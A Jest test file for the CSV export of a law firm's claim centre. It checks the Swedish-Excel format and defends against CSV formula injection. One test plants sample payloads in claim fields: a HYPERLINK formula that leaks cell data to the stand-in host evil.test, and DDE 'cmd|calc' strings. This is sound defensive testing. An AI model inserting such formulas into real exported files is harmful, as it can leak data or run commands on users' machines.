import { screen, waitFor } from '@testing-library/react';
import { getInvoiceKeyValues, type Invoice, lawFirmGetInvoices } from 'shared-api';
import { handlerFor } from 'shared-api/testing';
import { renderAs, rowsOf, server, setupTabTests } from '../testing';
import { ClaimCentre } from './claim-centre';
import { bases, claim, claims, recent } from './claim-fixtures';

setupTabTests();

/** Renders the firm's claim centre with these claims, presses Export (CSV) and returns the file and its name. */
async function exportClaims(invoiceList: Invoice[]): Promise<{ name: string; bytes: Uint8Array }> {
  server.use(handlerFor(lawFirmGetInvoices, { invoiceList }), handlerFor(getInvoiceKeyValues, bases));
  const blobs: Blob[] = [];
  URL.createObjectURL = jest.fn((blob: Blob) => {
    blobs.push(blob);
    return 'blob:csv';
  });
  URL.revokeObjectURL = jest.fn();
  const names: string[] = [];
  jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    names.push(this.download);
  });
  const { user } = await renderAs('A', <ClaimCentre side="lawfirm" caseId={5} />);
  await waitFor(() => expect(rowsOf('Claims')).toHaveLength(invoiceList.length));
  await user.click(screen.getByRole('button', { name: 'Export (CSV)' }));
  await waitFor(() => expect(blobs).toHaveLength(1));
  return { name: names[0] ?? '', bytes: new Uint8Array(await new Response(blobs[0]).arrayBuffer()) };
}

const linesOf = (bytes: Uint8Array) => new TextDecoder().decode(bytes.slice(3)).split('\r\n');

describe('the claims export', () => {
  afterEach(() => jest.restoreAllMocks());

  it('exports the shown claims as CSV for Swedish Excel', async () => {
    const { name, bytes } = await exportClaims(claims);
    expect(name).toMatch(/^claims-\d{4}-\d{2}-\d{2}\.csv$/);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = linesOf(bytes);
    expect(lines[0]).toBe(
      'File;Status;Amount (SEK);Creditor;Organisation number;Basis;Reference;Priority right;Uploaded;Filed by;Debt collector;Comment',
    );
    expect(lines[1]).toContain('Faktura 1001.pdf;Pending;12500,50;Leverantören AB;556677-8899');
    expect(lines[4]).toBe('Total;;20500,75;;;;;;;;;');
  });

  // Issue 12 §4 (OWASP CSV injection): a cell a spreadsheet would run as a formula starts with ' instead.
  it('writes every cell that starts with =, +, -, @, a tab or a carriage return as text', async () => {
    const hostile = claim(
      9,
      '=HYPERLINK("http://evil.test/?d="&A1,"Öppna").pdf',
      'Pending',
      '10.00',
      recent,
      {
        claimRefernce: "+cmd|' /C calc'!A0",
        creditorName: '-2+3+cmd|calc',
        creditorCompanyOrgNr: '@SUM(1+1)*cmd|calc',
        createdBy: '\t=1+1',
        debtCollectorName: '\r=1+1',
        debtByDebtCollector: true,
        invoiceDocumentResponse: {
          invoiceName: '=HYPERLINK("http://evil.test/?d="&A1,"Öppna").pdf',
          invoiceFullName: 'stored-9.pdf',
          invoicecomment: '@SUM(A1:A9)',
          fileSize: 100,
        },
      },
    );
    const { bytes } = await exportClaims([hostile]);
    // One row: the cells hold no ';' and the only quoted ones are kept whole by the split.
    const row = new TextDecoder().decode(bytes.slice(3)).split('\r\n').slice(1, -2).join('\r\n');
    expect(row.split(';')).toEqual([
      `"'=HYPERLINK(""http://evil.test/?d=""&A1,""Öppna"").pdf"`,
      'Pending',
      '10,00',
      "'-2+3+cmd|calc",
      "'@SUM(1+1)*cmd|calc",
      'SupplierInvoice',
      "'+cmd|' /C calc'!A0",
      'No',
      expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
      "'\t=1+1",
      `"'\r=1+1"`,
      "'@SUM(A1:A9)",
    ]);
  });

  it('leaves other cells as they are', async () => {
    const plain = claim(10, 'Faktura 2001.pdf', 'Pending', '10.00', recent, {
      claimRefernce: 'F-2001 = mars',
      creditorName: 'A-ett AB',
    });
    const row = linesOf((await exportClaims([plain])).bytes)[1] ?? '';
    expect(row.startsWith('Faktura 2001.pdf;Pending;10,00;A-ett AB;')).toBe(true);
    expect(row).toContain(';F-2001 = mars;');
    expect(row).not.toContain("'");
  });
});
